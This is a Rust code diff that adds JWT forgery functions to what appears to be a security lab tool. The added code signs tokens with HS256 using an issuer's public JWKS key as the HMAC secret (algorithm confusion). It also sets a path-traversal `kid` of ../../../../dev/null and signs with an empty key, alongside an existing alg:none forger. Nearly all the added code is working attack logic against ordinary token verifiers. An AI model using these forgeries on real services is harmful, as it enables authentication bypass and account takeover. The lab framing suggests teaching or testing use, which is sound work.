@@ -138,6 +138,54 @@ pub fn forge_alg_none(token: &str) -> Result<String, String> {
     Ok(format!("{header}.{}.", d.parts[1]))
 }
 
+/// The kid-path forgery's `kid`: from the lab's key folder up to `/dev/null`, a file every
+/// machine has and which is empty, so the HMAC key it names is known to everyone.
+pub const KID_PATH_FORGERY: &str = "../../../../dev/null";
+
+/// The same payload signed HS256 with `secret`, under a header naming `kid`.
+fn forge_hs256(token: &str, kid: &str, secret: &[u8]) -> Result<String, String> {
+    use hmac::{Hmac, Mac};
+    let d = decode(token)?;
+    let header = serde_json::json!({"alg": "HS256", "typ": "JWT", "kid": kid});
+    let signed = format!(
+        "{}.{}",
+        URL_SAFE_NO_PAD.encode(header.to_string()),
+        d.parts[1]
+    );
+    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(secret).map_err(|e| e.to_string())?;
+    mac.update(signed.as_bytes());
+    let sig = URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes());
+    Ok(format!("{signed}.{sig}"))
+}
+
+/// The key confusion (the lab's `hs256-public-key` weakness): HS256 with the issuer's
+/// PUBLIC key, as published in the JWKS (the JWK's `x`), for the HMAC secret. A verifier
+/// that lets the header pick the algorithm feeds that same public key to HMAC and agrees.
+pub fn forge_hs256_public_key(token: &str, jwks_json: &str) -> Result<String, String> {
+    let d = decode(token)?;
+    let set: JwkSet =
+        serde_json::from_str(jwks_json).map_err(|e| format!("the JWKS is not a key set: {e}"))?;
+    let kid = d.header.get("kid").and_then(Value::as_str);
+    let jwk = set
+        .keys
+        .iter()
+        .find(|k| kid.is_some() && k.common.key_id.as_deref() == kid)
+        .or_else(|| set.keys.first())
+        .ok_or("the JWKS lists no key")?;
+    let kid = jwk.common.key_id.clone().unwrap_or_default();
+    let x = match &jwk.algorithm {
+        jsonwebtoken::jwk::AlgorithmParameters::OctetKeyPair(okp) => okp.x.clone(),
+        _ => return Err("the JWKS key is not an EdDSA (OKP) key".into()),
+    };
+    forge_hs256(token, &kid, x.as_bytes())
+}
+
+/// The path trick (the lab's `kid-path` weakness): `kid` names `/dev/null` and the token is
+/// HS256-signed with its contents, nothing, as the key.
+pub fn forge_kid_path(token: &str) -> Result<String, String> {
+    forge_hs256(token, KID_PATH_FORGERY, b"")
+}
+
 /// "in 12 min" / "3 min ago" for a timestamp against `now`.
 pub fn relative(t: i64, now: i64) -> String {
     let d = t - now;
